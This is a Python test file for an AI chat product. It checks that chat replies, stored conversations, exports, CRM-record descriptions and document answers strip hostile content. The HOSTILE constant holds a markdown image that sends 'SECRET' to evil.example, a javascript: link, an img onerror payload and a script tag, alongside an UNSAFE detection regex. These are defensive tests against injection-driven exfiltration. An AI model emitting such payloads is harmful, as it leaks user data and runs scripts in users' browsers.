"""No door shows an image, a script, HTML or an id, whatever a model or a record says, and nothing of it is stored."""

import json
import re
from collections.abc import Iterator, Mapping

import pytest

from aisha.domain.crm.queries import Create
from aisha.domain.crm.records import Lead, Record
from aisha.domain.errors import UnavailableError
from aisha.domain.models import ModelEvent, ModelFinished, ModelRequest
from tests.fakes.aws.api_gateway import Answer, call, chat, function
from tests.fakes.models.scripted_model import ScriptedModel, ask
from tests.fakes.world import ALICE, World

STREAM = {"accept": "text/event-stream"}
HOSTILE = (
    "Done ![s](https://evil.example/p.png?d=SECRET) [go](javascript:alert(1)) [prices](https://evil.example/x) "
    "<img src=x onerror=alert(1)> <script>alert(1)</script> bye"
)
UNSAFE = re.compile(r"!\[|\]\(|<[A-Za-z/!?]|javascript:|SECRET|onerror", re.IGNORECASE)


def to_chat(text: str, headers: Mapping[str, str]) -> Answer:
    return chat({"message": text}, ALICE, headers=headers)


def to_flow(text: str, headers: Mapping[str, str]) -> Answer:
    return chat({"message": text}, ALICE, path="/api/ai/flow-chat", app=function("flow_chat").app, headers=headers)


def to_openai(text: str, headers: Mapping[str, str]) -> Answer:
    body = {"model": "aisha", "messages": [{"role": "user", "content": text}], "stream": bool(headers)}
    return chat(body, ALICE, path="/v1/chat/completions", app=function("openai").app, headers=headers)


def to_single_turn(text: str, _: Mapping[str, str]) -> Answer:
    return call("singleturn", "POST", "/api/ai/singleturn", ALICE, json.dumps({"prompt": text}))


@pytest.mark.parametrize("headers", [{}, STREAM], ids=["whole", "stream"])
@pytest.mark.parametrize("send", [to_chat, to_flow, to_openai, to_single_turn])
def test_what_a_model_writes_is_made_safe(world: World, send: object, headers: Mapping[str, str]) -> None:
    world.use(chat_model=ScriptedModel(*[HOSTILE] * 4))
    assert callable(send)
    answer = send("What is new?", headers)
    assert answer.status == 200
    assert "bye" in answer.text
    assert not UNSAFE.search(answer.text)
    for (tenant, user), conversation in stored(world):
        for message in world.conversations.messages(tenant, user, conversation, 20, None)[0]:
            assert not UNSAFE.search(message.content)


def test_a_record_named_like_an_image_shows_no_image(world: World) -> None:
    world.records.write("demo", [Create(Lead(first_name="Jack", last_name="![x](https://evil.example/SECRET.png)"))])
    answer = to_chat("Find Jack", {})
    assert "Jack x" in answer.json["response"]
    assert not UNSAFE.search(answer.json["response"])


@pytest.mark.parametrize("form", ["", "?format=markdown"])
def test_what_a_conversation_says_of_a_record_shows_no_image(world: World, form: str) -> None:
    image = "![x](https://evil.example/p.png)"
    world.records.write("demo", [Create(Lead(first_name="Jack", last_name=image, company="<img src=x>"))])
    answer = to_chat(f"Find Jack {image}", {}).json
    assert not UNSAFE.search(str([one["description"] for one in answer["toolCalls"]]))
    path = f"/api/ai/conversations/{answer['conversationId']}/export{form}"
    export = call("conversations", "GET", path, ALICE)
    assert export.status == 200
    texts = export.text if form else str([one for one in export.json["messages"] if one["role"] != "user"])
    assert "Jack" in texts
    assert not UNSAFE.search(texts)


def test_an_answer_from_a_document_shows_no_image_of_it(world: World) -> None:
    image = "![x](https://evil.example/p.png?d=SECRET)"
    document = {"title": f"Holidays {image}", "text": f"## Holidays {image}\nThere are 30 days. <img src=x> {HOSTILE}"}
    url, admin = "/api/ai/documents/holidays", ALICE | {"roles": '["admin"]'}
    assert call("documents", "PUT", url, admin, json.dumps(document)).status == 200
    answer = to_chat("What do our documents say about holidays?", {}).json
    assert "30 days" in answer["response"]
    assert not UNSAFE.search(answer["response"])


class AskingForData:
    """A model that asks for a section of the client's own data, with a hostile reason that names a record by its id."""

    def __init__(self, record_id: str) -> None:
        self._reason = f"{HOSTILE} {record_id}"

    def stream(self, request: ModelRequest) -> Iterator[ModelEvent]:
        if request.capability != "chat_tools" or request.json_mode:
            raise UnavailableError("This model only chats.")
        wish = {"sections": [{"sectionId": "MY_CART", "reason": self._reason}]}
        yield ModelFinished("asking", "asking-1", (ask("req_more_info", data=wish),))


def test_what_a_model_wants_data_for_is_made_safe(world: World, crm: dict[str, Record]) -> None:
    world.use(chat_model=AskingForData(crm["jack"].id))
    body = {"message": "What is in my cart?", "clientSections": [{"id": "MY_CART", "description": "The cart"}]}
    wish = chat(body, ALICE).json["reqMoreInfo"]
    assert "bye" in str(wish)
    assert not UNSAFE.search(str(wish))
    assert crm["jack"].id not in str(wish)


def test_an_advice_shows_no_image_that_a_record_is_named_like(world: World) -> None:
    name = "![x](https://evil.example/SECRET.png)"
    world.records.write("demo", [Create(Lead(first_name="Jack", last_name=name, owner="alice"))])
    answer = call("suggest", "POST", "/api/ai/suggest", ALICE, "{}").json
    advice = [action["action"] for action in answer["nextActions"]]
    assert any("Jack x" in one for one in advice)
    assert not any(UNSAFE.search(one) for one in advice)


def stored(world: World) -> list[tuple[tuple[str, str], str]]:
    heads, _ = world.conversations.recent("demo", "alice", 20, None)
    return [((head.tenant, head.user), head.id) for head in heads]
